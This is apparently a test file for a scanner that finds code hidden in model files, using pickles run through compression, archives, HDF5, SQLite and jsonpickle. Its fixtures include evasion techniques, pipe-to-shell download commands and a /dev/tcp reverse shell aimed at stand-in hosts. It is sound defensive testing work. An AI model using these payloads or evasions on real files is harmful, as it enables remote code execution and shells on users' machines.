import * as assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { DatabaseSync } from "node:sqlite";
import {
  brotliCompressSync,
  constants,
  deflateRawSync,
  deflateSync,
  gzipSync,
  zstdCompressSync,
} from "node:zlib";
import { TempDir } from "../../../support/temp_dir.ts";
import { Hdf5Builder } from "../readers/hdf5/hdf5_bytes.ts";
import { wholeScan } from "../whole_scan.ts";
import { CHUNKS } from "./compressed/chunks.ts";
import { file as npyFile, header } from "./numpy/npy_bytes.ts";
import { assemble, call, fragment, name, type Term } from "./pickle/assembler.ts";
import { bytes } from "./pickle/pickle_bytes.ts";
import { COMPILED } from "./python_bytecode/compiled.ts";
import { tarOf } from "./tar/tar_builder.ts";
import { zipOf } from "./zip/zip_builder.ts";

/** Code in a form that scanners do not open, or that is not what they look at. */
interface HiddenCode {
  /** Names under which a program runs or loads it. */
  readonly names: readonly string[];
  readonly contents: readonly Uint8Array[];
  readonly verdict: "dangerous" | "suspicious";
}

const SYSTEM = call(name("os", "system"), "true");
const TERMS: readonly Term[] = [
  SYSTEM,
  { each: [SYSTEM, null] },
  { dict: [["x", { list: [1, SYSTEM] }]] },
  call(name("collections", "OrderedDict"), { list: [{ list: ["x", SYSTEM] }] }),
];

/** Pickles without PROTO, in the instructions of each protocol, with a memo or without. */
const PAYLOADS: readonly Uint8Array[] = TERMS.flatMap((term) =>
  [0, 1, 2, 3, 4, 5].map((protocol) =>
    bytes(fragment(term, { protocol, memo: protocol % 2 === 0 }), ".")
  )
);
const PICKLES: readonly Uint8Array[] = TERMS.flatMap((term) =>
  [0, 1, 2, 3, 4, 5].map((protocol) => assemble(term, { protocol, memo: protocol % 2 === 1 }))
);
const [PICKLE = bytes()] = PICKLES;

/** Beginnings that say nothing of what follows, each longer than detection looks. */
const BEGINNINGS = ["I1\n0".repeat(20_001), `V${"a".repeat(66_000)}\n0`, "N.".repeat(9)]
  .map((text) => Buffer.from(text));
const behindBeginning = (payload: Uint8Array, index: number) =>
  Buffer.concat([BEGINNINGS[(index + Math.floor(index / 6)) % 3] ?? Buffer.of(), payload]);
const MODELS = ["model.bin", "model.ckpt", "model.p", "model.sav", "model.dat", "model.pt"];

const SKIPPABLE = (index: number, length: number) =>
  Buffer.concat([Buffer.of(0x50 + index, 0x2a, 0x4d, 0x18, length, 0, 0, 0), Buffer.alloc(length)]);
const packed = (extension: string) =>
  Deno.readFileSync(
    new URL(
      `../../../fixtures/models/archive/hostile/payload.pkl.${extension}`,
      import.meta.url,
    ),
  );
const brotli = (content: Uint8Array, quality: number) =>
  brotliCompressSync(content, { params: { [constants.BROTLI_PARAM_QUALITY]: quality } });

/** A file of PyTables with an attribute that is a pickle of over 20 000 instructions. */
function tables(version: 0 | 1 | 2 | 3, payload: Uint8Array, beginning: string): Uint8Array {
  const file = new Hdf5Builder(version);
  const text = `${beginning}${new TextDecoder("latin1").decode(payload)}`;
  const attribute = version % 2 === 0 ? file.text("a", text) : file.fixedText("a", text);
  return file.build(file.object(file.fixedText("CLASS", "GROUP"), attribute));
}

/** A cache of diskcache with a value among plain ones. */
async function cache(value: Uint8Array, pageBytes: number): Promise<Uint8Array> {
  await using directory = await TempDir.make();
  const path = `${directory.path}/cache.db`;
  const made = new DatabaseSync(path);
  made.exec(`PRAGMA page_size = ${pageBytes}; CREATE TABLE Cache (key TEXT, value BLOB)`);
  const insert = made.prepare("INSERT INTO Cache VALUES (?, ?)");
  for (const [key, blob] of [["a", bytes("N.")], ["b", value]] as const) insert.run(key, blob);
  made.close();
  return await Deno.readFile(path);
}

const ENCODER = new TextEncoder();
const texts = (...all: readonly string[]) => all.map((text) => ENCODER.encode(text));

const HIDDEN: Readonly<Record<string, HiddenCode>> = {
  "evasion 93: a pickle without PROTO behind a long beginning": {
    names: MODELS,
    contents: PAYLOADS.map(behindBeginning),
    verdict: "dangerous",
  },
  "evasion 94: Brotli": {
    names: ["model.pkl.br", "model.bin", "model.model", "weights"],
    contents: PICKLES.slice(0, 10).map((pickle, quality) => brotli(pickle, quality)),
    verdict: "dangerous",
  },
  "evasion 94: LZ4 behind frames that decoders skip": {
    names: ["model.lz4", "model.bin", "model.model"],
    contents: [0, 1, 2, 7, 15].flatMap((index) => [
      Buffer.concat([SKIPPABLE(index, index), packed("lz4")]),
      Buffer.concat([SKIPPABLE(0, 0), SKIPPABLE(index, 200), packed("lz4")]),
    ]),
    verdict: "dangerous",
  },
  "evasion 94: a compressed pickle under the name of a model": {
    names: ["spm.model", "model.weights"],
    contents: [
      ...[gzipSync, deflateSync, deflateRawSync, zstdCompressSync, brotliCompressSync].flatMap(
        (compress) => [compress(PICKLE), compress(PICKLES.at(-1) ?? PICKLE)],
      ),
      ...["bz2", "xz", "lzma", "lz4"].map(packed),
    ],
    verdict: "dangerous",
  },
  "evasion 73: an attribute of PyTables of over 20 000 instructions": {
    names: ["model.h5"],
    contents: ([0, 1, 2, 3] as const).flatMap((version) => [
      tables(version, PAYLOADS[0] ?? PICKLE, "N0".repeat(20_001)),
      tables(version, PAYLOADS[7] ?? PICKLE, "I1\n0".repeat(15_000)),
      tables(version, PAYLOADS[12] ?? PICKLE, "N.".repeat(20_001)),
    ]),
    verdict: "dangerous",
  },
  "evasion 94: chunks of zarr": {
    names: ["x/0.0"],
    contents: CHUNKS.map(([, base64]) => Uint8Array.fromBase64(base64)),
    verdict: "dangerous",
  },
  "evasion 95: a cache in SQLite": {
    names: ["cache.db", "model.bin"],
    contents: await Promise.all(
      PICKLES.slice(0, 10).map((pickle, index) => cache(pickle, 512 << index % 4)),
    ),
    verdict: "dangerous",
  },
  "evasion 96: a text of jsonpickle": {
    names: ["model.json", "config.json", "model.bin"],
    contents: texts(
      '{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["true"]}]}',
      '{"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": ["true"]}, null]}',
      '[1, {"a": {"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["true"]]}]}}]',
      '{"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [["true"]]}}',
      '{"py/object": "subprocess.Popen", "py/newargsex": [{"py/tuple": ["true"]}, {}]}',
      '{"py/function": "builtins.eval"}',
      '{"py/type": "os.system"}',
      '{"py/repr": "os/os.system(\'true\')"}',
      '{"x": [{"y": {"py/mod": "ctypes"}}]}',
      '{"py/object": "__main__.A", "f": {"py/function": "os.popen"}}',
    ),
    verdict: "dangerous",
  },
  "evasion 96: compiled Python": {
    names: ["m.pyc", "__pycache__/m.cpython-311.pyc", "model.bin"],
    contents: COMPILED.map(([, base64]) => Uint8Array.fromBase64(base64)),
    verdict: "suspicious",
  },
  "evasion 96: a script with an archive after it": {
    names: ["install.run", "setup.sh", "model.bin"],
    contents: ["#!/bin/sh\n", "#!/usr/bin/env bash\nset -e\n"].flatMap((script) =>
      [gzipSync(PICKLE), zstdCompressSync(PICKLE), packed("xz"), packed("bz2"), deflateSync(PICKLE)]
        .map((data) => Buffer.concat([Buffer.from(`${script}tail -n +4 "$0" | tar xz\n`), data]))
    ),
    verdict: "suspicious",
  },
  "evasion 96: a script that runs things": {
    names: ["modeling_x.py"],
    contents: texts(
      "import os\nos.system('id')\n",
      "import os as o\no.system('id')\n",
      "from os import system\nsystem('id')\n",
      "from os import system as s\ns('id')\n",
      "import subprocess\nsubprocess.run(['id'])\n",
      "from subprocess import Popen\nPopen(['id'])\n",
      "__import__('os').system('id')\n",
      "import importlib\nimportlib.import_module('os').system('id')\n",
      "class X:\n    def __init__(self):\n        exec(open('x').read())\n",
      "import base64\nexec(base64.b64decode('aWQ='))\n",
      "eval(compile('1', 'x', 'exec'))\n",
      "import pty\npty.spawn('/bin/sh')\n",
      "import ctypes\nctypes.CDLL('./x.so')\n",
      "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n",
    ),
    verdict: "suspicious",
  },
  "evasion 96: a script of a shell that runs what it gets": {
    names: ["setup.sh", "install"],
    contents: [
      "curl -s https://example.org/x | sh",
      "curl -fsSL https://example.org/x | sudo bash -s -- -y",
      "wget -qO- https://example.org/x | bash",
      "bash <(curl -s https://example.org/x)",
      'sh -c "$(curl -s https://example.org/x)"',
      'eval "$(wget -qO- https://example.org/x)"',
      "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
      "echo aWQ= | base64 -d | sh",
      "base64 --decode x | bash",
      "curl https://example.org/x -o /tmp/x && chmod +x /tmp/x && /tmp/x",
    ].map((line) => ENCODER.encode(`#!/bin/sh\n${line}\n`)),
    verdict: "suspicious",
  },
};

/** Where it is. */
const PLACES: readonly ((name: string, data: Uint8Array) => readonly [string, Uint8Array])[] = [
  (name, data) => [name, data],
  (name, data) => ["model.zip", zipOf([{ name, data }])],
  (name, data) => ["model.tar", tarOf([{ name, data }])],
  (name, data) => ["model.tar.gz", gzipSync(tarOf([{ name: `a/${name}`, data }]))],
  (name, data) => ["model.whl", zipOf([{ name: "b.tar", data: tarOf([{ name, data }]) }])],
];

const VARIATIONS = 10;

Deno.test("scanning 2: code in any form is found in every file that holds it", async (t) => {
  for (const [title, { names, contents, verdict: least }] of Object.entries(HIDDEN)) {
    await t.step(title, () => {
      const missed: string[] = [];
      for (let index = 0; index < Math.max(VARIATIONS, contents.length); index++) {
        const content = contents[index % contents.length] ?? PICKLE;
        const name = names[index % names.length] ?? "";
        const place = PLACES[(index + Math.floor(index / names.length)) % PLACES.length];
        const [path, file] = place?.(name, content) ?? [name, content];
        const { verdict } = wholeScan(path, file);
        if (verdict !== "dangerous" && verdict !== least) {
          missed.push(`${path} with ${name}, content ${index % contents.length}: ${verdict}`);
        }
      }
      assert.equal(missed.join("\n"), "");
    });
  }
});

/** Files that hold a pickle, as loaders read them. */
const FILES: readonly (readonly [file: string, wrap: (pickle: Uint8Array) => Uint8Array])[] = [
  ["model.npy", (data) => npyFile(header("'|O'", "(1,)"), data)],
  ["m.npz", (data) => zipOf([{ name: "x.npy", data: npyFile(header("'|O'", "(1,)"), data) }])],
  ["model.joblib", (data) => deflateSync(data)],
  [
    "model.pt",
    (data) => zipOf([{ name: "a/data.pkl", data }, { name: "a/version", data: "3\n" }]),
  ],
];

Deno.test("evasion 93: so is a pickle behind a long beginning in arrays and models", async (t) => {
  for (const [at, [name, wrap]] of FILES.entries()) {
    await t.step(name, () => {
      for (const [index, payload] of PAYLOADS.entries()) {
        if (index % FILES.length !== at) continue;
        const { verdict } = wholeScan(name, wrap(behindBeginning(payload, index)));
        assert.equal(verdict, "dangerous", `payload ${index}`);
      }
    });
  }
});
